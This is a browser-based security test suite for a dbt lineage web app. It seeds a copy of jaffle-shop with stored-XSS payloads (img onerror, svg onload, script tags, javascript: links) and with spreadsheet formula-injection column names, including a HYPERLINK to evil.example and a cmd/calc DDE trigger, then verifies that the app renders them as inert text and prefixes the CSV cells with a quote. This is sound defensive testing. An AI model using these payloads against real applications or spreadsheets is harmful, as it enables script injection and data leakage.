// Stored XSS and CSV formula injection, in Debian's Chromium against the built app. A real
// project (jaffle-shop's manifest, catalog and constructed column index from ../shared/fixtures)
// is copied and its user-controlled text replaced by hostile markup: a model's description, a
// column's description, a column's NAME (in the manifest, the catalog and both index files, so
// lineage runs through it), a test's name, a run's error message, and on the settings page a
// token's label, a warehouse's settings and an OpenLineage namespace. Every page that shows
// them (the details pane, the project page's diff, the impact panel, the run's results, the
// settings page) and the SVG export must show the text as text: no payload script runs (its
// window flag stays unset, no dialog opens), no element or attribute comes out of it, no
// javascript: link. Names with a grammar (folders, project paths, workspace ids) refuse it.
// Downstream columns named like spreadsheet formulas reach rows of the impact CSV, plain and
// pinned to the preview the diff shows: every such cell comes out with a single quote first.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeFixtures, fixture } from '../support/fixtures';
import { indexRows, writeColumns, writeLineage, type IndexRow } from '../support/index-parquet';
import { apiLogin, launchBrowser, screenshotDir, startApp, type RunningApp } from './server';
import { Api, openCanvas, shot, signedInContext } from './support';
import type { Browser, BrowserContext } from 'playwright-core';

const P = 'model.jaffle_shop.';
const ORDERS = `${P}orders`;
const CUSTOMERS = `${P}customers`;
const PROJECT = 'f/demo/xss_shop';

/** Each sets window.__xss (and some open a dialog) if it ever runs. */
const XSS = {
	img: `<img src=x onerror="window.__xss='img';alert('img')">`,
	svg: `"><svg onload="window.__xss='svg'">`,
	script: `<script>window.__xss='script';alert('script')</script>`,
	attr: `' autofocus onfocus='window.__xss="attr"' x='`,
	js: `javascript:window.__xss='js'`
};
const ALL = Object.values(XSS).join(' ');
/** orders.order_total, renamed: lineage runs from it to customers.lifetime_spend. */
const XSS_COLUMN = `order_total"><img src=x onerror=window.__xss='col'>`;
/** Downstream columns named like formulas (OWASP's triggers), each fed by a column of orders. */
const FORMULAS: Record<string, string> = {
	lifetime_spend: '=HYPERLINK("http://evil.example/?leak","open")',
	count_lifetime_orders: '+1+cmd|\' /C calc\'!A0',
	first_ordered_at: '-2+3',
	customer_type: '@SUM(1+1)'
};

interface Artifacts {
	manifest: any;
	catalog: any;
	lineage: IndexRow[];
	columns: IndexRow[];
}

const read = (rel: string) => readFileSync(fixture(rel));
const json = (rel: string) => JSON.parse(read(rel).toString('utf8'));

function renameColumn(a: Artifacts, uid: string, from: string, to: string): void {
	const rekey = (cols: Record<string, any>) => {
		const c = cols[from];
		expect(c, `${uid}.${from}`).toBeDefined();
		delete cols[from];
		cols[to] = { ...c, name: to };
	};
	rekey(a.manifest.nodes[uid].columns);
	rekey(a.catalog.nodes[uid].columns);
	for (const r of a.columns) if (r.unique_id === uid && r.column_name === from) r.column_name = to;
	for (const r of a.lineage) {
		if (r.from_node_unique_id === uid && r.from_column_name === from) r.from_column_name = to;
		if (r.to_node_unique_id === uid && r.to_column_name === from) r.to_column_name = to;
	}
}

function dropColumn(a: Artifacts, uid: string, name: string): void {
	delete a.manifest.nodes[uid].columns[name];
	delete a.catalog.nodes[uid].columns[name];
	a.columns = a.columns.filter((r) => !(r.unique_id === uid && r.column_name === name));
	a.lineage = a.lineage.filter((r) => !(r.from_node_unique_id === uid && r.from_column_name === name) && !(r.to_node_unique_id === uid && r.to_column_name === name));
}

/** jaffle-shop as dbt wrote it, with hostile text in every field a project author controls. */
async function hostileArtifacts(): Promise<Artifacts> {
	const a: Artifacts = {
		manifest: json('jaffle-shop-1.12-duckdb-docs-generate/manifest.json'),
		catalog: json('jaffle-shop-1.12-duckdb-docs-generate/catalog.json'),
		lineage: await indexRows(read('constructed-index/jaffle-shop-1.12/index/dbt.column_lineage.parquet')),
		columns: await indexRows(read('constructed-index/jaffle-shop-1.12/index/dbt.node_columns.parquet'))
	};
	const orders = a.manifest.nodes[ORDERS];
	orders.description = `Orders. ${ALL}`;
	orders.columns.order_id.description = `The key. ${XSS.img} ${XSS.js}`;
	renameColumn(a, ORDERS, 'order_total', XSS_COLUMN);
	for (const [from, to] of Object.entries(FORMULAS)) renameColumn(a, CUSTOMERS, from, to);
	const test = a.manifest.nodes['test.jaffle_shop.not_null_orders_order_id.cf6c17daed'];
	test.name = XSS.svg;
	test.test_metadata.name = `${XSS.svg}${XSS.img}`;
	return a;
}

function uploadForm(a: Artifacts): FormData {
	const form = new FormData();
	form.set('path', PROJECT);
	form.set('descriptor', 'profile:\n  warehouse: main\ncolumn_lineage: true\n');
	form.set('manifest', new Blob([JSON.stringify(a.manifest)]), 'manifest.json');
	form.set('catalog', new Blob([JSON.stringify(a.catalog)]), 'catalog.json');
	form.set('column_lineage', new Blob([writeLineage(a.lineage) as Uint8Array<ArrayBuffer>]), 'dbt.column_lineage.parquet');
	form.set('node_columns', new Blob([writeColumns(a.columns) as Uint8Array<ArrayBuffer>]), 'dbt.node_columns.parquet');
	return form;
}

/** What a page shows of the payloads: anything that escaped into markup, and whether one ran. */
async function inertness(page: Page): Promise<{ flag: unknown; escaped: string[] }> {
	return page.evaluate(() => {
		const escaped: string[] = [];
		for (const el of document.querySelectorAll('*')) {
			for (const a of el.attributes) {
				if (/^on/i.test(a.name)) escaped.push(`<${el.tagName.toLowerCase()} ${a.name}>`);
				if (/^(href|src|xlink:href|action|formaction)$/i.test(a.name) && /^\s*javascript:/i.test(a.value)) escaped.push(`<${el.tagName.toLowerCase()} ${a.name}=${a.value}>`);
				if (a.name === 'autofocus' && el.closest('[data-testid]') && el.tagName !== 'INPUT' && el.tagName !== 'BUTTON') escaped.push(`<${el.tagName.toLowerCase()} autofocus>`);
			}
		}
		for (const el of document.querySelectorAll('img[src="x"], script:not([src])')) {
			const code = el.textContent ?? '';
			// SvelteKit's hydration script carries the page data, payloads included, as JS literals:
			// it is the payloads' only way in, so no `<` may stand in it unescaped (a `</script>` would end it).
			if (el.tagName === 'SCRIPT' && code.includes('__sveltekit_') && !code.includes('<')) continue;
			if (el.tagName === 'SCRIPT' && !code.includes('__sveltekit_') && !code.includes('__xss')) continue;
			escaped.push(el.outerHTML.slice(0, 120));
		}
		return { flag: (window as unknown as { __xss?: unknown }).__xss ?? null, escaped };
	});
}

describeFixtures('stored XSS and CSV injection (chromium, built app, a hostile copy of jaffle-shop)', () => {
	let app: RunningApp;
	let api: Api;
	let browser: Browser;
	let member: BrowserContext;
	const dialogs: string[] = [];
	let deployed: { job_id: string; hash: string };
	let previewId: string;
	let runId: string;
	/** The hostile orders and customers relations, as the graph names them. */
	let ordersPath: string;
	let customersPath: string;
	const node = () => encodeURIComponent(`dbt:${ordersPath}`);

	/** A page that records every dialog (none may open) and carries the session. */
	async function watchedPage(): Promise<Page> {
		const page = await member.newPage();
		page.on('dialog', (d) => {
			dialogs.push(`${page.url()}: ${d.message()}`);
			void d.dismiss();
		});
		return page;
	}

	async function expectInert(page: Page, where: string, shown: string[]): Promise<void> {
		const text = await page.evaluate(() => document.body.innerText);
		// The payloads are on the page, as text: the check below is not vacuous.
		for (const s of shown) expect(text, `${where} shows ${s}`).toContain(s);
		expect(await inertness(page), where).toEqual({ flag: null, escaped: [] });
		expect(dialogs, where).toEqual([]);
	}

	beforeAll(async () => {
		app = await startApp({ TRIBUTARY_WORKER: '0' });
		api = new Api(app.url, await apiLogin(app.url));
		const a = await hostileArtifacts();
		deployed = await api.ok('POST', '/api/w/demo/scripts/dbt/deploy', uploadForm(a));
		// The change under review drops the hostile column (its readers are formula-named columns).
		const b = await hostileArtifacts();
		dropColumn(b, ORDERS, XSS_COLUMN);
		b.manifest.nodes[ORDERS].description = `Orders, changed. ${ALL}`;
		previewId = (await api.ok('POST', '/api/w/demo/scripts/dbt/preview', uploadForm(b))).job_id;
		// A recorded run whose orders model failed with a hostile message.
		const rr = json('jaffle-shop-1.12-duckdb-docs-generate/run_results.json');
		const failed = rr.results.find((r: { unique_id: string }) => r.unique_id === ORDERS);
		failed.status = 'error';
		failed.message = `Runtime Error in model orders: ${ALL}`;
		const form = new FormData();
		form.set('path', PROJECT);
		form.set('run_results', new Blob([JSON.stringify(rr)]), 'run_results.json');
		runId = (await api.ok('POST', '/api/w/demo/jobs/record', form)).job_id;
		const graph = await api.ok('GET', '/api/w/demo/assets/graph?folder=demo');
		const pathOf = (uid: string) => (graph.assets as { path: string; dbt?: { unique_id: string; script_path: string } }[]).find((x) => x.dbt?.unique_id === uid && x.dbt.script_path === PROJECT)!.path;
		ordersPath = pathOf(ORDERS);
		customersPath = pathOf(CUSTOMERS);
		// The settings page's own fields.
		await api.ok('POST', '/api/w/demo/tokens', { label: `ci ${XSS.img}` });
		await api.ok('POST', '/api/w/demo/warehouses', { name: 'hostile', settings: { type: 'duckdb', path: `${XSS.svg}${XSS.script}` } });
		await api.ok('POST', '/api/w/demo/openlineage/namespaces', { namespace: `ns${XSS.img}`, folder: 'demo' });
		browser = await launchBrowser();
		member = await signedInContext(browser, app.url, api.cookie);
	}, 180_000);

	afterAll(async () => {
		await browser?.close();
		await app?.stop();
	});

	it('names with a grammar refuse markup: a project path, a folder, a workspace id, a group, a user', async () => {
		// A small body: the path is refused before any file is read, and a large one could still be
		// on its way when the answer comes (on a loaded machine the client then sees EPIPE, not the 400).
		const form = new FormData();
		form.set('path', `f/demo/${XSS.img}`);
		form.set('manifest', new Blob(['{}']), 'manifest.json');
		const refused = [
			await api.call('POST', '/api/w/demo/scripts/dbt/deploy', form),
			await api.call('POST', '/api/w/demo/folders', { name: XSS.svg }),
			await api.call('POST', '/api/workspaces', { id: XSS.img, name: 'x' }),
			await api.call('POST', '/api/w/demo/groups', { name: XSS.img }),
			await api.call('POST', '/api/w/demo/users', { username: XSS.svg, password: 'long enough password' })
		];
		expect(refused.map((r) => r.status)).toEqual([400, 400, 400, 400, 400]);
		expect(JSON.stringify(refused[0].body)).toMatch(/path/);
	});

	it('the details pane shows the description, columns and tests as text', async () => {
		const page = await watchedPage();
		await openCanvas(page, `${app.url}/w/demo/pipeline/demo?select=${node()}`);
		const pane = page.getByTestId('details-pane');
		await pane.waitFor({ timeout: 30_000 });
		await expect.poll(() => pane.getByTestId('columns').count()).toBe(1);
		await expectInert(page, 'details pane', [ALL, XSS_COLUMN, `${XSS.img} ${XSS.js}`, `${XSS.svg}${XSS.img} · order_id`]);
		// The column name is an attribute value too (the trace's data-column): it stays one attribute.
		expect(await pane.locator('[data-column]').evaluateAll((els, c) => els.filter((e) => e.getAttribute('data-column') === c).length, XSS_COLUMN)).toBeGreaterThan(0);
		await shot(page, 'xss-details-pane');
		await page.close();
	});

	it('the impact panel lists the formula-named readers of the hostile column as text', async () => {
		const page = await watchedPage();
		await openCanvas(page, `${app.url}/w/demo/pipeline/demo?select=${node()}&column=${encodeURIComponent(XSS_COLUMN)}`);
		const pane = page.getByTestId('details-pane');
		await pane.waitFor({ timeout: 30_000 });
		await pane.getByTestId('trace-impact').first().click();
		const panel = page.getByTestId('impact-panel');
		await expect.poll(() => panel.getAttribute('data-state'), { timeout: 30_000 }).toBe('ready');
		await expectInert(page, 'impact panel', [XSS_COLUMN, FORMULAS.lifetime_spend]);
		await shot(page, 'xss-impact-panel');
		await page.close();
	});

	it('the project page diff lists the dropped hostile column and its readers as text', async () => {
		const page = await watchedPage();
		await page.goto(`${app.url}/w/demo/dbt/${PROJECT}`);
		const panel = page.locator('[data-testid=diff-panel]');
		await expect.poll(() => panel.locator('[data-testid=diff-summary]').count(), { timeout: 30_000 }).toBe(1);
		await expect.poll(() => page.evaluate(() => document.body.innerText), { timeout: 30_000 }).toContain(XSS_COLUMN);
		await expectInert(page, 'diff', [XSS_COLUMN]);
		await shot(page, 'xss-diff');
		await page.close();
	});

	it("the run's results show dbt's hostile message as text", async () => {
		const page = await watchedPage();
		await openCanvas(page, `${app.url}/w/demo/run/${runId}`);
		const results = page.getByTestId('results');
		await expect.poll(() => results.locator('tr[data-outcome=failed]').count(), { timeout: 30_000 }).toBeGreaterThan(0);
		await expectInert(page, 'run results', [`Runtime Error in model orders: ${XSS.img}`]);
		await shot(page, 'xss-run-results');
		await page.close();
	});

	it('the settings page shows the token label, warehouse settings and namespace as text', async () => {
		const page = await watchedPage();
		await page.goto(`${app.url}/w/demo/settings`);
		await page.locator('html[data-hydrated]').waitFor({ state: 'attached' });
		await expectInert(page, 'settings', [`ci ${XSS.img}`, `ns${XSS.img}`]);
		// The warehouse's settings are shown as text or, in its edit form, as an input's value.
		const shown = await page.evaluate(() => [document.body.innerText, ...[...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea')].map((e) => e.value)].join('\n'));
		expect(shown).toContain('window.__xss=\'svg\'');
		await shot(page, 'xss-settings');
		await page.close();
	});

	it('the SVG export carries the hostile names as text, no element or handler made of them', async () => {
		const page = await watchedPage();
		await openCanvas(page, `${app.url}/w/demo/dbt/${PROJECT}`);
		// Expand orders so its column names are drawn on the card.
		const card = page.locator(`.svelte-flow__node[data-id="dbt:${ordersPath}"]`);
		await card.locator('[data-testid=expand-columns]').click();
		await expect.poll(() => card.locator(`[data-testid=card-columns] .row[data-column]`).count(), { timeout: 30_000 }).toBeGreaterThan(2);
		const [dl] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-svg').click()]);
		const file = path.join(screenshotDir, 'xss-export.svg');
		await dl.saveAs(file);
		const svg = readFileSync(file, 'utf8');
		const parsed = await page.evaluate((text) => {
			const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
			const escaped: string[] = [];
			if (doc.querySelector('parsererror')) escaped.push('parsererror');
			for (const el of doc.querySelectorAll('*')) {
				for (const a of el.attributes) {
					if (/^on/i.test(a.name)) escaped.push(`<${el.localName} ${a.name}>`);
					if (/href$/i.test(a.name) && /^\s*javascript:/i.test(a.value)) escaped.push(`<${el.localName} ${a.name}>`);
				}
			}
			for (const el of doc.querySelectorAll('script, img[src="x"]')) escaped.push(el.localName);
			return { escaped, text: doc.documentElement.textContent ?? '' };
		}, svg);
		expect(parsed.escaped).toEqual([]);
		expect(parsed.text).toContain(XSS_COLUMN);
		expect(await inertness(page)).toEqual({ flag: null, escaped: [] });
		expect(dialogs).toEqual([]);
		await page.close();
	}, 90_000);

	describe('CSV formula injection: formula-named columns reach rows of the impact CSV', () => {
		/** RFC 4180 rows. */
		function parseCsv(text: string): string[][] {
			const rows: string[][] = [];
			let row: string[] = [];
			let cell = '';
			let quoted = false;
			for (let i = 0; i < text.length; i++) {
				const ch = text[i];
				if (quoted) {
					if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
					else if (ch === '"') quoted = false;
					else cell += ch;
				} else if (ch === '"') quoted = true;
				else if (ch === ',') row.push(cell), (cell = '');
				else if (ch === '\r' && text[i + 1] === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
				else cell += ch;
			}
			return rows;
		}

		const impactCsvs = async (pinned: boolean) => {
			const out: string[][] = [];
			// Pinned: the deploy's job, and the preview the diff reviews (which no longer has the hostile column).
			const asked: [string | null, string][] = [XSS_COLUMN, 'order_id', 'ordered_at'].map((c) => [pinned ? deployed.job_id : null, c]);
			if (pinned) asked.push([previewId, 'order_id'], [previewId, 'ordered_at']);
			for (const [job, column] of asked) {
				const q = `asset_path=${encodeURIComponent(ordersPath)}&column=${encodeURIComponent(column)}&format=csv`;
				const url = job ? `/api/w/demo/jobs/dbt_column_impact/${job}?${q}` : `/api/w/demo/assets/column_impact?${q}`;
				const r = await api.call('GET', url);
				expect(r.status, `${url}: ${String(r.body).slice(0, 300)}`).toBe(200);
				const [header, ...rows] = parseCsv(String(r.body));
				expect(header).toEqual(['kind', 'asset_path', 'column', 'depth', 'kinds', 'via', 'tests']);
				out.push(...rows);
			}
			return out;
		};

		for (const pinned of [false, true]) {
			it(`${pinned ? 'pinned to the deploy and to the reviewed preview' : 'the current graph'}: every formula-named cell starts with a single quote`, async () => {
				const rows = await impactCsvs(pinned);
				const named = rows.filter((r) => r[1] === customersPath).map((r) => r[2]);
				// Each crafted name reached a row, defused.
				expect(named.sort()).toEqual(expect.arrayContaining(Object.values(FORMULAS).map((f) => `'${f}`).sort()));
				for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
			});
		}

		it('the impact panel downloads the same CSV, defused', async () => {
			const page = await watchedPage();
			await openCanvas(page, `${app.url}/w/demo/pipeline/demo?select=${node()}&column=${encodeURIComponent(XSS_COLUMN)}`);
			const pane = page.getByTestId('details-pane');
			await pane.waitFor({ timeout: 30_000 });
			await pane.getByTestId('trace-impact').first().click();
			const panel = page.getByTestId('impact-panel');
			await expect.poll(() => panel.getAttribute('data-state'), { timeout: 30_000 }).toBe('ready');
			const [dl] = await Promise.all([page.waitForEvent('download'), panel.getByTestId('impact-csv').click()]);
			const file = path.join(screenshotDir, 'xss-impact.csv');
			await dl.saveAs(file);
			const rows = parseCsv(readFileSync(file, 'utf8'));
			expect(rows.map((r) => r[2])).toContain(`'${FORMULAS.lifetime_spend}`);
			for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
			await page.close();
		});
	});

});
